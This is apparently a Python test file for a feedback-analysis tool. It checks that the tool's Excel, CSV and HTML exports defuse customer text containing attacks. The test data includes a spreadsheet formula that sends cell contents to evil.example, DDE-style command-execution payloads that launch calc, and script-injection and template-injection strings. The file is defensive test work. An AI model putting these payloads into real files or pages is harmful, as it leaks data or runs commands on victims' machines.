"""Exports opened in a spreadsheet never run what customers wrote: no formula cells, guarded CSV text."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest

from vocnlp.io.spreadsheet_safety import guard_text, guarded, unguard_text

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+33 6 12 34 56 78 rappelez-moi",
    "-2 étoiles, nul",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = [
    "<script>alert(1)</script> The bill was wrong twice.",
    "<img src=x onerror=alert(2)> The app keeps crashing.",
    "{{ 7*7 }} {% raw %} The advisor was rude.",
]


def test_guard_marks_only_formula_starts_and_comes_off_again():
    for payload in PAYLOADS:
        assert guard_text(payload) == "'" + payload
        assert unguard_text(guard_text(payload)) == payload
    for plain in ("Facture fausse.", "'quoted' on purpose", "", "2 = deux"):
        assert guard_text(plain) == plain and unguard_text(plain) == plain
    frame = pd.DataFrame({"text": ["=1+1", "ok", None], "nps": [-3, 9, 10], "=col": ["a", "b", "c"]})
    safe = guarded(frame)
    assert safe["text"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(safe["text"].iloc[2])
    assert safe["nps"].tolist() == [-3, 9, 10]  # numbers stay numbers: -3 is not text
    assert list(safe.columns) == ["text", "nps", "'=col"]


@pytest.fixture(scope="module")
def hostile_run(pipeline, tmp_path_factory):
    """A dump whose comments and segment values are formula payloads and control characters, analysed and
    written with every format."""
    from vocnlp import load_config, write_outputs
    from vocnlp.io.readers import read_table
    from vocnlp.pipeline.analysis_run import analyze_table

    folder = tmp_path_factory.mktemp("hostile")
    texts = PAYLOADS + [
        "Le conseiller\x0b était \x1b[31mtrès\x00 aimable",
        "Bill wrong twice, still waiting.",
        "=1+1 and the app crashes",
        *MARKUP,
    ]
    frame = pd.DataFrame(
        {
            "id": [f"c{i}" for i in range(len(texts))],
            "comment": texts,
            "nps": [i % 11 for i in range(len(texts))],
            "agence": (["=cmd|' /C calc'!A0", "Paris", "@evil"] * 4)[: len(texts)],
        }
    )
    source = folder / "hostile.parquet"
    frame.to_parquet(source, index=False)
    config = load_config(overrides={"input": {"columns": {"segments": ["agence"]}}})
    result = analyze_table(read_table(source), config, pipeline=pipeline, progress=False)
    out = folder / "out"
    write_outputs(result, out, config, ["parquet", "csv", "xlsx"])
    return result, out, config, texts


def test_workbook_holds_no_formula_and_every_sheet(hostile_run):
    result, out, _, texts = hostile_run
    with zipfile.ZipFile(out / "vocnlp_results.xlsx") as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 10  # the control characters did not stop the workbook half-way
        for name in sheets:
            assert "<f>" not in book.read(name).decode("utf-8"), name
    import openpyxl

    comments = openpyxl.load_workbook(out / "vocnlp_results.xlsx")["comments"]
    header = [c.value for c in comments[1]]
    column = header.index("comment") + 1
    cells = [comments.cell(row=r, column=column) for r in range(2, comments.max_row + 1)]
    assert all(c.data_type != "f" for c in cells)
    assert cells[0].value == texts[0]  # shown as the customer wrote it, as text
    assert "\ufffd" in cells[6].value and "\x1b" not in cells[6].value


def test_csv_text_is_guarded_and_parquet_keeps_what_was_written(hostile_run):
    result, out, _, texts = hostile_run
    csv = pd.read_csv(out / "comments.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    parquet = pd.read_parquet(out / "comments.parquet")
    assert parquet["comment"].iloc[0] == PAYLOADS[0]  # Parquet keeps the text as read (personal data masked)
    assert csv["comment"].tolist() == [guard_text(t) for t in parquet["comment"]]  # a bare CR did not split a record
    assert csv["comment"].iloc[0] == "'" + PAYLOADS[0]
    assert set(csv["agence"]) == {"'=cmd|' /C calc'!A0", "Paris", "'@evil"}
    for name in ("comments", "mentions", "scores_by_group", "drivers"):
        cells = pd.read_csv(out / f"{name}.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
        text = [v for v in cells.to_numpy().ravel() if not _is_number(v)]  # -0.25 is a number, not a formula
        assert not any(v.startswith(("=", "+", "-", "@")) for v in text), name


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_csv_guard_can_be_switched_off_for_programs(hostile_run, tmp_path):
    from vocnlp import write_outputs

    result, _, config, _ = hostile_run
    raw = config.model_copy(deep=True)
    raw.output.excel_safe_csv = False
    write_outputs(result, tmp_path, raw, ["parquet", "csv"])
    csv = pd.read_csv(tmp_path / "comments.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert csv["comment"].tolist() == pd.read_parquet(tmp_path / "comments.parquet")["comment"].tolist()


def test_review_file_round_trip_gives_back_the_text_as_written(hostile_run, tmp_path):
    from vocnlp.taxonomy.review import export_review_queue, import_review

    _, out, _, _ = hostile_run
    queue_file = tmp_path / "review.csv"
    queue = export_review_queue(out, queue_file)
    on_disk = pd.read_csv(queue_file, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert not any(v.startswith(("=", "+", "-", "@")) for v in on_disk["evidence"])
    on_disk["verdict"] = "yes"
    on_disk.to_csv(queue_file, index=False, encoding="utf-8-sig")
    import_review(queue_file, tmp_path / "labelled.csv")
    labelled = pd.read_csv(tmp_path / "labelled.csv", dtype=str, keep_default_na=False)
    assert sorted(labelled["text"]) == sorted(queue["evidence"])


def test_report_shows_markup_as_text(hostile_run, tmp_path):
    from vocnlp.report import build_report

    _, out, _, _ = hostile_run
    html = build_report(out, "en", tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html  # the customer's words, shown as text


def test_report_carries_no_control_characters(hostile_run, tmp_path):
    """NUL, ESC and vertical tabs from comments are not allowed in an HTML document; plotly.js keeps its own."""
    import re

    from plotly.offline import get_plotlyjs

    from vocnlp.report import build_report

    _, out, _, _ = hostile_run
    html = build_report(out, "en", tmp_path / "report.html").read_text(encoding="utf-8")
    assert get_plotlyjs() in html
    page = html.replace(get_plotlyjs(), "")
    assert "Le conseiller" in page and not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", page)
